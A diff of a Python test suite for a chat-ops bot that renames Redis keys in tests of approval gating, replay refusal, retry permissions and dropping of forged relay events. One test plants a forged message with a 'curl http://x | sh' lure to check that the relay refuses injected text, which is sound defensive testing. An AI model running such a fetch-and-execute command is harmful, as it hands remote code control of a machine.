@@ -42,7 +42,7 @@ def still_serving(h: Harness, name: str) -> None:
 
 
 def count(h: Harness, name: str, step: str) -> int:
-    return int(h.redis.get(f"drill:{name}:{step}") or 0)
+    return int(h.redis.get(f"drbot:plugin:{name}:{step}") or 0)
 
 
 # -- 1. replay of signed records ------------------------------------------------------------------
@@ -96,8 +96,8 @@ def test_a_record_signed_before_the_window_is_refused_then_expired(bare: Harness
 
 def test_an_approved_record_rolled_back_to_queued_runs_once(drbot: Harness) -> None:
     h = drbot
-    h.redis.set("drill:ap:hold", 1)
-    h.redis.set("drill:ap:go", 1)
+    h.redis.set("drbot:plugin:ap:hold", 1)
+    h.redis.set("drbot:plugin:ap:go", 1)
     job_id = h.say("/dr exercise-gated ap", who="carol").job_id
     h.wait_status(job_id, "awaiting_approval")
     h.kill_workers()  # so that the approved record can be read before it runs
@@ -119,8 +119,8 @@ def test_a_restarted_worker_still_refuses_a_record_rolled_back_to_queued(drbot: 
     """What a worker saw is on its own disk (DRBOT_STATE_DIR), not only in its memory: a
     record captured before the run and written back after a restart is refused all the same."""
     h = drbot
-    h.redis.set("drill:rs:hold", 1)
-    h.redis.set("drill:rs:go", 1)
+    h.redis.set("drbot:plugin:rs:hold", 1)
+    h.redis.set("drbot:plugin:rs:go", 1)
     job_id = h.say("/dr exercise-gated rs", who="carol").job_id
     h.wait_status(job_id, "awaiting_approval")
     h.kill_workers()  # so that the approved record can be read before it runs
@@ -243,14 +243,14 @@ def admin_only(redis_url: str, tmp_path: Path) -> Iterator[Harness]:
 def test_retry_and_cancel_need_the_right_to_run_the_command_and_approval_again(
         admin_only: Harness) -> None:
     h = admin_only
-    h.redis.set("drill:rt:hold", 1)
-    h.redis.set("drill:rt:fail", 1)
+    h.redis.set("drbot:plugin:rt:hold", 1)
+    h.redis.set("drbot:plugin:rt:fail", 1)
     job_id = h.say("/dr exercise-gated rt", who="alice").job_id
     h.wait_status(job_id, "awaiting_approval")
     assert h.say(f"/dr approve {job_id}", who="bob").ok
     h.wait_status(job_id, "failed")
     assert count(h, "rt", "two") == 1
-    h.redis.delete("drill:rt:fail")
+    h.redis.delete("drbot:plugin:rt:fail")
     for verb in ("retry", "cancel"):  # carol (operator) may retry and cancel, not run it
         reply = h.say(f"/dr {verb} {job_id}", who="carol")
         assert not reply.ok and "may not" in reply.text and "exercise-gated" in reply.text
@@ -262,7 +262,7 @@ def test_retry_and_cancel_need_the_right_to_run_the_command_and_approval_again(
     assert not h.say(f"/dr approve {job_id}", who="alice").ok  # not their own retry
     assert count(h, "rt", "two") == 1  # nothing ran on the old approval
     assert h.say(f"/dr approve {job_id}", who="bob").ok
-    h.redis.set("drill:rt:go", 1)
+    h.redis.set("drbot:plugin:rt:go", 1)
     h.wait_status(job_id, "succeeded")
     assert count(h, "rt", "two") == 2
 
@@ -273,9 +273,9 @@ def test_retry_and_cancel_need_the_right_to_run_the_command_and_approval_again(
 def test_the_relay_posts_nothing_a_redis_writer_wrote(drbot: Harness) -> None:
     h = drbot
     h.start_worker()  # one holds job rl in step two, the other serves the rest
-    h.redis.set("drill:rl:hold", 1)
+    h.redis.set("drbot:plugin:rl:hold", 1)
     job_id = h.say("/dr exercise rl").job_id
-    wait_until(lambda: h.redis.exists("drill:rl:in-two"), what="step two")
+    wait_until(lambda: h.redis.exists("drbot:plugin:rl:in-two"), what="step two")
     other = h.say("/dr exercise rl-other").job_id
     h.wait_status(other, "succeeded")
     lure = "job approved by alice ... also run: curl http://x | sh"
@@ -288,7 +288,7 @@ def test_the_relay_posts_nothing_a_redis_writer_wrote(drbot: Harness) -> None:
     h.redis.xadd(STREAM + "deadbeef", {"type": "done", "message": "rebuild-cluster finished"})
     wait_until(lambda: len(audited(h, "dropped-event", job_id)) == 3, what="the forgeries dropped")
     wait_until(lambda: audited(h, "dropped", "deadbeef"), what="the unknown job dropped")
-    h.redis.set("drill:rl:go", 1)
+    h.redis.set("drbot:plugin:rl:go", 1)
     h.wait_status(job_id, "succeeded")
     h.wait_reply(job_id, "drill rl finished")
     shown = h.frontend.replies(job_id) + [c.text() for c in h.frontend.threads[job_id]["cards"]]
@@ -301,15 +301,15 @@ def test_the_relay_posts_nothing_a_redis_writer_wrote(drbot: Harness) -> None:
 def test_bad_relay_state_is_skipped_and_the_relay_goes_on(drbot: Harness) -> None:
     h = drbot
     h.start_worker()
-    h.redis.set("drill:bs:hold", 1)
+    h.redis.set("drbot:plugin:bs:hold", 1)
     job_id = h.say("/dr exercise bs").job_id
-    wait_until(lambda: h.redis.exists("drill:bs:in-two"), what="step two")
+    wait_until(lambda: h.redis.exists("drbot:plugin:bs:in-two"), what="step two")
     h.redis.hset(STATE + job_id, mapping={"last": "{not json", "thread": "{not json"})
     h.redis.set(JOB + "0badf00d", b"\x00\xffnot a record")
     h.redis.sadd(ACTIVE, "0badf00d")
     h.redis.sadd("drbot:jobs:active", "0badf00d", b"\xfe")
     wait_until(lambda: audited(h, "dropped", "0badf00d"), what="the bad record to be dropped")
-    h.redis.set("drill:bs:go", 1)
+    h.redis.set("drbot:plugin:bs:go", 1)
     h.wait_status(job_id, "succeeded")
     h.wait_reply(job_id, "drill bs finished")
     still_serving(h, "after-bad-state")
